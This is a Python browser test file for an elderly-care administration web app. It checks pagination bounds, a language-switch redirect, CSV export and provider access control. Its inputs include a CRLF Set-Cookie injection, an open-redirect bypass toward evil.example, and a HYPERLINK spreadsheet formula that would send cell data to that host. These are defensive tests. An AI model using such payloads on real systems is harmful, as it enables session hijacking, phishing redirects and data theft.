"""Issue 19's findings where a page is involved, in a real browser against the demo server."""
import io
import json
import pathlib
import subprocess
import tempfile
import urllib.error
import urllib.request

from openpyxl import load_workbook

from conftest import BASE, PASSWORD, sign_in


def api(path, token=None, body=None):
    req = urllib.request.Request(BASE + path, data=None if body is None else json.dumps(body).encode(),
                                 method="GET" if body is None else "POST")
    req.add_header("Content-Type", "application/json")
    if token:
        req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req) as res:
            return res.status, json.loads(res.read() or b"null")
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or b"null")


def token(username):
    status, body = api("/api/v1/auth/login", body={"username": username, "password": PASSWORD})
    assert status == 200, body
    return body["token"]


def citizen_id(body17):
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    check = "10X98765432"[sum(int(d) * w for d, w in zip(body17, weights)) % 11]
    return body17 + check


def test_a_list_page_far_past_its_end_offers_the_way_back_and_the_server_stays_up(page):
    sign_in(page, "city")
    res = page.goto(BASE + "/elders?page=1000")
    assert res.status == 200
    assert "超出范围" in page.inner_text(".pager")
    page.get_by_role("link", name="最后一页").click()
    page.wait_for_load_state("networkidle")
    assert "page=" in page.url and "超出范围" not in page.inner_text(".pager")
    res = page.goto(BASE + "/elders?page=1000000000")
    assert res.status == 400
    assert "页码" in page.inner_text("main")
    assert page.request.get(BASE + "/health").status == 200


def test_the_language_switch_cannot_plant_a_cookie_or_leave_the_site(page):
    page.goto(BASE + "/lang/zh?back=/%0D%0ASet-Cookie:%20yanglao_session=X;%20Path=/")
    assert page.url.rstrip("/") in (BASE, BASE + "/login")
    assert all(c["value"] != "X" for c in page.context.cookies())
    page.goto(BASE + "/lang/en?back=/%09/evil.example")
    assert page.url.startswith(BASE)


def test_an_exported_csv_opens_in_libreoffice_with_the_formula_as_text(page):
    county = token("county.410902")
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"点我")'
    status, body = api("/api/v1/elders", county, {
        "citizenId": citizen_id("41090219440101771"), "name": "公式测试", "address": formula, "regionCode": "410902001001"})
    assert status in (200, 201, 409), body
    sign_in(page, "county.410902")
    page.goto(BASE + "/elders?name=公式测试")
    with page.expect_download() as download:
        page.get_by_role("link", name="CSV").click()
    with tempfile.TemporaryDirectory() as folder:
        csv_path = pathlib.Path(folder) / "export.csv"
        download.value.save_as(csv_path)
        # Comma-separated, double quotes, UTF-8 (76), first line a header: as Calc opens a CSV.
        subprocess.run(["soffice", "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", folder, str(csv_path)],
                       check=True, capture_output=True, timeout=120)
        sheet = load_workbook(pathlib.Path(folder) / "export.xlsx").active
        header = [c.value for c in sheet[1]]
        address = header.index("住址")
        cells = [row[address] for row in sheet.iter_rows(min_row=2)]
        assert cells, "the export has the person"
        for cell in cells:
            assert cell.data_type == "s", (cell.value, cell.data_type)
            assert "HYPERLINK" in cell.value


def test_a_provider_administrator_reaches_its_own_record_and_settlement_but_not_a_competitors(page):
    sign_in(page, "provider")
    page.goto(BASE + "/provider-desk")
    own = page.get_by_role("link", name="本服务商资料与服务人员")
    own_href = own.get_attribute("href")
    own.click()
    page.wait_for_load_state("networkidle")
    assert page.url.endswith(own_href)
    page.goto(BASE + "/provider-desk")
    with page.expect_download() as download:
        page.get_by_role("link", name="下载本月结算单（XLSX）").click()
    rows = list(load_workbook(io.BytesIO(pathlib.Path(download.value.path()).read_bytes())).active.iter_rows(values_only=True))
    assert rows[0][0] == "序号"
    status, listing = api("/api/v1/providers?county=410922000000", token("county.410922"))
    assert status == 200
    others = [p["id"] for p in listing["items"] if not own_href.endswith(p["id"])]
    assert others, "the demo county has more than one provider"
    res = page.goto(BASE + "/providers/" + others[0])
    assert res.status == 404
    provider = token("provider")
    assert api("/api/v1/providers/" + others[0] + "/workers", provider)[0] == 404
    assert api("/api/v1/providers/" + others[0], provider)[0] == 404
    assert api(own_href.replace("/providers/", "/api/v1/providers/"), provider)[0] == 200
